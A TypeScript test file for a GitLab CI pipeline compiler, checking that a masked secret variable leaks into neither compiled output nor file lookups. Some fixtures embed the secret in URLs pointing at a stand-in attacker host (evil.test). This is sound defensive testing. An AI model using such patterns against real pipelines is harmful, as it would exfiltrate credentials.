import { describe, expect, test } from "vitest";
import { compile } from "#language/compile.ts";
import type { CompileRequest } from "#language/source.ts";
import { pushFacts } from "./sample-facts.ts";

const secret = "sEcrEt-1234567890";

function request(text: string, more: Partial<CompileRequest> = {}): CompileRequest {
  return {
    text,
    file: ".gitlab-ci.yml",
    facts: pushFacts(),
    iid: 1,
    pipelineVariables: [],
    projectVariables: [
      { key: "SECRET", value: secret, public: false, masked: true },
      { key: "OPEN", value: "open" },
      { key: "LEAKY", value: `https://$SECRET.test` },
    ],
    reader: {
      local: async () => undefined,
      paths: async () => ["a.txt"],
      changedPaths: async () => ["a.txt"],
      project: async () => undefined,
      projectPaths: async () => undefined,
      remote: async () => undefined,
      component: async () => undefined,
    },
    ...more,
  };
}

const job = "job: {script: [make]}\n";

/** Wherever a text with variables in it can get to. */
const places: Record<string, string> = {
  "workflow:name": `workflow: {name: "deploy $SECRET"}\n${job}`,
  "workflow:name through another variable": `variables: {A: "x$SECRET"}\nworkflow: {name: "deploy $A"}\n${job}`,
  "workflow:name through a project's variable": `workflow: {name: "deploy $LEAKY"}\n${job}`,
  "workflow:name in another spelling": `workflow: {name: "deploy \${SECRET} %SECRET%"}\n${job}`,
  "include:local": `include: {local: "x-$SECRET.yml"}\n${job}`,
  "include:local with wildcards": `include: {local: "*$SECRET*.yml"}\n${job}`,
  "include:project": `include: {project: "g/$SECRET", file: "a-$SECRET.yml", ref: "$SECRET"}\n${job}`,
  "include:remote": `include: {remote: "https://evil.test/$SECRET.yml"}\n${job}`,
  "include:component": `include: {component: "evil.test/g/$SECRET@1"}\n${job}`,
  "include:template": `include: {template: "$SECRET.gitlab-ci.yml"}\n${job}`,
  "rules:changes:compare_to": `job: {script: [x], rules: [{changes: {paths: [a.txt], compare_to: "$SECRET"}}]}`,
  "rules:exists:project": `job: {script: [x], rules: [{exists: {paths: [a], project: "g/$SECRET"}}]}`,
  "rules:exists:ref": `job: {script: [x], rules: [{exists: {paths: [a], project: g/a, ref: "$SECRET"}}]}`,
  "rules:changes": `job: {script: [x], rules: [{changes: ["[$SECRET"]}, {when: always}]}`,
  tags: `job: {script: [x], tags: ["t-$SECRET"]}`,
  resource_group: `job: {script: [x], resource_group: "r-$SECRET"}`,
  "environment:name in a resource group": `job: {script: [x], environment: {name: "e/$SECRET"}, resource_group: "$CI_ENVIRONMENT_NAME-$CI_ENVIRONMENT_SLUG"}`,
  "cache:policy": `job: {script: [x], cache: {key: k, paths: [a], policy: "$SECRET"}}`,
  "inputs and expand_vars": `spec: {inputs: {x: {default: "$SECRET"}}}\n---\n"job $[[ inputs.x | expand_vars ]]": {script: [make]}\n`,
  "inputs, expand_vars and truncate": `spec: {inputs: {x: {default: "$SECRET"}}}\n---\n"job $[[ inputs.x | expand_vars | truncate(0,12) ]]": {script: [make], stage: test}\n`,
  "rules:variables in a name": `workflow: {name: "n $B", rules: [{variables: {B: "$SECRET"}}]}\n${job}`,
};

describe("a secret is in nothing that a compilation gives", () => {
  test.for(Object.entries(places))("%s", async ([, text]) => {
    const asked: string[] = [];
    const given = request(text);
    const remembered = new Proxy(given.reader, {
      get: (reader, key) => {
        const ask: unknown = Reflect.get(reader, key);
        return typeof ask !== "function"
          ? ask
          : (...words: unknown[]): unknown => {
              asked.push(JSON.stringify(words));
              return Reflect.apply(ask, reader, words);
            };
      },
    });
    const result = JSON.stringify(await compile({ ...given, reader: remembered }));
    // Neither whole nor a part of it, in any case: names are cut, and made to slugs.
    expect(result.toLowerCase()).not.toContain("secret-1234");
    expect(asked.join("\n").toLowerCase()).not.toContain("secret-1234");
  });
});

describe("a secret decides", () => {
  test.for([
    ["rules:if", `a: {script: [x], rules: [{if: '$SECRET == "${secret}"'}]}\nb: {script: [x]}`],
    [
      "rules:if by a pattern",
      `a: {script: [x], rules: [{if: '$SECRET =~ /^sEc/'}]}\nb: {script: [x]}`,
    ],
    ["workflow:rules", `workflow: {rules: [{if: '$SECRET =~ /7890$/'}]}\na: {script: [x]}`],
    [
      "only:variables",
      `a: {script: [x], only: {variables: ['$SECRET == "${secret}"']}}\nb: {script: [x]}`,
    ],
  ] as const)("%s", async ([, text]) => {
    const result = await compile(request(text));
    expect(result.status === "created" && result.plan.jobs.map(({ name }) => name)).toContain("a");
  });

  test("what the runner expands is left to the runner", async () => {
    const text = `a: {script: [x], image: "$SECRET/x", environment: {name: "e/$SECRET"}, variables: {U: "https://$SECRET"}}`;
    const result = await compile(request(text));
    const [planned] = result.status === "created" ? result.plan.jobs : [];
    expect(planned?.image?.name).toBe("$SECRET/x");
    expect(planned?.variables).toContainEqual(
      expect.objectContaining({ value: "https://$SECRET" }),
    );
  });
});
